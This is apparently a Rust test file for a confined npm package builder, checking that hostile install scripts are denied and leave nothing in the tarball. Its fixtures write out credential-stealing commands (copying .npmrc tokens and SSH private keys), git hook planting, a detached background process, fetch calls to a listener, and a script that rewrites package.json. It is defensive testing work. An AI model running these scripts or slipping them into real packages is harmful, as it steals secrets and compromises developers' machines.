//! What a malicious release tries while it is built: denied, in the record, and nothing of it in the tarball. Each
//! attack is first run as npm would run it, where it works.

use std::fs;
use std::time::Duration;

use serde_json::{Value, json};

use crate::build::{Bench, builders};

/// A package that attacks.
struct Attack {
    name: &'static str,
    /// With `$ROOT` for the machine's folder and `$CANARY` for a listener.
    script: &'static str,
    /// The file that shows it from there, which then holds `canary`; `""` for the listener.
    shows: &'static str,
    /// What the record has denied; nothing where nobody is asked.
    event: Option<(&'static str, &'static str)>,
}

const ATTACKS: &[Attack] = &[
    Attack {
        name: "reads-token",
        script: "cat '$ROOT/house/.npmrc' > stolen || true",
        shows: "package/stolen",
        event: Some(("read", "/house/.npmrc")),
    },
    Attack {
        name: "reads-key",
        script: "node -e \"fs.writeFileSync('stolen', fs.readFileSync('$ROOT/house/.ssh/id_rsa'))\" || true",
        shows: "package/stolen",
        event: Some(("read", "/house/.ssh/id_rsa")),
    },
    Attack {
        name: "links-token",
        script: "ln -s '$ROOT/house/.npmrc' stolen",
        shows: "package/stolen",
        event: None,
    },
    Attack {
        name: "reads-variable",
        script: "echo \"$SECRET_TOKEN\" > stolen",
        shows: "package/stolen",
        event: None,
    },
    Attack {
        name: "writes-hook",
        script: "echo canary > '$ROOT/project/.git/hooks/post-checkout' || true",
        shows: "project/.git/hooks/post-checkout",
        event: Some(("write", "/.git/hooks/post-checkout")),
    },
    Attack {
        name: "writes-neighbour",
        script: "echo canary > ../neighbour.js || true",
        shows: "neighbour.js",
        event: None,
    },
    Attack {
        name: "outlives",
        script: "(setsid sh -c 'sleep 2; echo canary > \"$ROOT/late\"' > /dev/null 2>&1 &) ; true",
        shows: "late",
        event: None,
    },
    Attack {
        name: "sends",
        script: "node -e \"fetch('http://$CANARY/sent').then(() => {}, () => {})\"",
        shows: "",
        event: None,
    },
];

/// What is tried in a network of its own, with what is denied there.
const SENDS: &[(&str, &str, &str, &str)] = &[
    (
        "asks-name",
        "node -e \"require('dns').lookup('canary.example.org', () => {})\"",
        "name",
        "canary.example.org",
    ),
    (
        "connects",
        "node -e \"require('net').connect(443, '192.0.2.1').on('error', () => {})\"",
        "connect",
        "192.0.2.1:443",
    ),
];

fn denied(record: &Value, act: &str, subject: &str) -> bool {
    let scripts = record["scripts"].as_array().into_iter().flatten();
    let mut events = scripts.flat_map(|script| script["report"]["events"].as_array().into_iter().flatten());
    events.any(|event| {
        event["act"] == act
            && event["fate"] == "denied"
            && event["subject"].as_str().unwrap().contains(subject)
    })
}

/// Whether it shows.
fn is_done(bench: &Bench, attack: &Attack) -> bool {
    match attack.shows {
        "" => bench.upstream.received().iter().any(|request| request.path == "/sent"),
        file => bench.read(file).is_some_and(|text| text.contains("canary")),
    }
}

fn script(bench: &Bench, attack: &Attack) -> String {
    let root = bench.path("").display().to_string();
    attack.script.replace("$ROOT/", &root).replace("$CANARY", bench.upstream.address())
}

/// What goes on in the background has time to.
fn wait_for(attack: &Attack) {
    std::thread::sleep(Duration::from_secs(if attack.name == "outlives" { 3 } else { 0 }));
}

#[test]
fn a_malicious_release_gets_nothing_and_gives_nothing_away() {
    for user in builders() {
        // As npm would run it.
        let bench = Bench::new(user);
        fs::create_dir(bench.path("package")).unwrap();
        bench.write("package/package.json", "{}");
        for attack in ATTACKS {
            let _ = fs::remove_file(bench.path("package/stolen"));
            let mut plain = bench.command("sh", "package");
            assert!(
                plain.args(["-c", &script(&bench, attack)]).status().unwrap().success(),
                "{}",
                attack.name
            );
            wait_for(attack);
            assert!(is_done(&bench, attack), "{user:?}: {} does nothing unconfined", attack.name);
        }
        // As it is built.
        let bench = Bench::new(user);
        for attack in ATTACKS {
            let text = script(&bench, attack);
            bench.publish(attack.name, &json!({ "scripts": { "postinstall": text } }), &[("a.js", "")]);
            let (ran, record) = bench.build(&[attack.name, "--out", "out"]);
            assert_eq!(ran.code, 0, "{user:?}: {}: {}", attack.name, ran.err);
            wait_for(attack);
            assert!(!is_done(&bench, attack), "{user:?}: {}: {}", attack.name, ran.err);
            if let Some((act, subject)) = attack.event {
                assert!(denied(&record, act, subject), "{user:?}: {}: {record:#}", attack.name);
            }
            let files = bench.unpacked(&format!("project/out/{}-1.0.0.tgz", attack.name));
            let given = files.iter().find(|(path, text)| path != "package.json" && text.contains("canary"));
            assert_eq!(given, None, "{user:?}: {}", attack.name);
            assert_eq!(bench.names("project/.git/hooks"), [""; 0]);
        }
    }
}

#[test]
fn no_host_is_reached_or_named() {
    for user in builders() {
        let bench = Bench::new(user);
        for (name, script, act, subject) in SENDS {
            bench.publish(name, &json!({ "scripts": { "install": script } }), &[]);
            let (ran, record) = bench.build(&[name, "--out", "out"]);
            assert_eq!(ran.code, 0, "{user:?}: {name}: {}", ran.err);
            assert!(denied(&record, act, subject), "{user:?}: {name}: {record:#}");
            assert_eq!(record["confinement"]["network"], json!([]));
        }
        let (ran, record) = bench.build(&["asks-name", "--net", "other.example.org", "--out", "out"]);
        assert_eq!(ran.code, 0, "{}", ran.err);
        assert!(denied(&record, "name", "canary.example.org"), "{record:#}");
        assert_eq!(record["confinement"]["network"], json!(["other.example.org"]));
    }
}

/// A stage that has to be fetched is not, and what depends on it fails.
#[test]
fn a_release_that_has_to_download_fails_closed() {
    for user in builders() {
        let bench = Bench::new(user);
        let script = format!(
            "node -e \"fetch('http://{}/stage').catch(() => process.exit(9))\"",
            bench.upstream.address()
        );
        bench.publish("downloads", &json!({ "scripts": { "preinstall": script } }), &[]);
        let (ran, record) = bench.build(&["downloads", "--out", "out"]);
        assert_eq!(ran.code, 9, "{}", ran.err);
        assert!(record["scripts"][0]["report"]["events"].is_array(), "{record:#}");
        assert!(!bench.path("project/out").exists());
        assert!(!bench.upstream.received().iter().any(|request| request.path == "/stage"));
    }
}

/// Code that runs although no script stands in the manifest, and commands that a build file runs.
#[test]
fn a_build_that_is_only_implied_is_confined_and_told() {
    for user in builders() {
        let bench = Bench::new(user);
        let gyp = "{ 'targets': [{ 'target_name': 'x', 'type': 'none', 'sources': ['<!(node index.js)'] }] }";
        let evil = format!(
            "try {{ require('fs').writeFileSync('{}', 'canary') }} catch {{}} console.log('index.js');",
            bench.path("canary").display()
        );
        bench.publish("implied", &json!({}), &[("binding.gyp", gyp), ("index.js", &evil)]);
        let (ran, record) = bench.build(&["implied", "--out", "out"]);
        assert_eq!(record["scripts"][0]["command"], "node-gyp rebuild", "{}", ran.err);
        assert_eq!(record["scripts"][0]["implicit"], true);
        assert!(denied(&record, "write", "/canary"), "{} {record:#}", ran.err);
        assert!(!bench.path("canary").exists());
    }
}

/// What it says of itself is not what is packed.
#[test]
fn a_script_does_not_change_what_npm_is_told() {
    if builders().is_empty() {
        return;
    }
    let bench = Bench::new(crate::exec::User::This);
    let change = "node -e \"const m = require('./package.json'); m.bin = 'evil.js'; m.scripts.prepare = 'evil'; m.dependencies = { evil: '*' }; fs.writeFileSync('package.json', JSON.stringify(m))\"";
    bench.publish("changes", &json!({ "scripts": { "install": change } }), &[("evil.js", "")]);
    let (ran, record) = bench.build(&["changes", "--out", "out"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    let change = &record["files"][0];
    assert_eq!((&change["path"], &change["packed"]), (&json!("package.json"), &json!(false)), "{record:#}");
    let left_out: Vec<&Value> = record["left_out"].as_array().unwrap().iter().collect();
    assert!(left_out.iter().any(|file| file["path"] == "package.json"), "{record:#}");
    let files = bench.unpacked("project/out/changes-1.0.0.tgz");
    let manifest: Value = serde_json::from_str(&files.last().unwrap().1).unwrap();
    let has = |key: &str| manifest.get(key).is_some();
    assert!(!has("bin") && !has("scripts") && !has("dependencies"), "{manifest:#}");
}
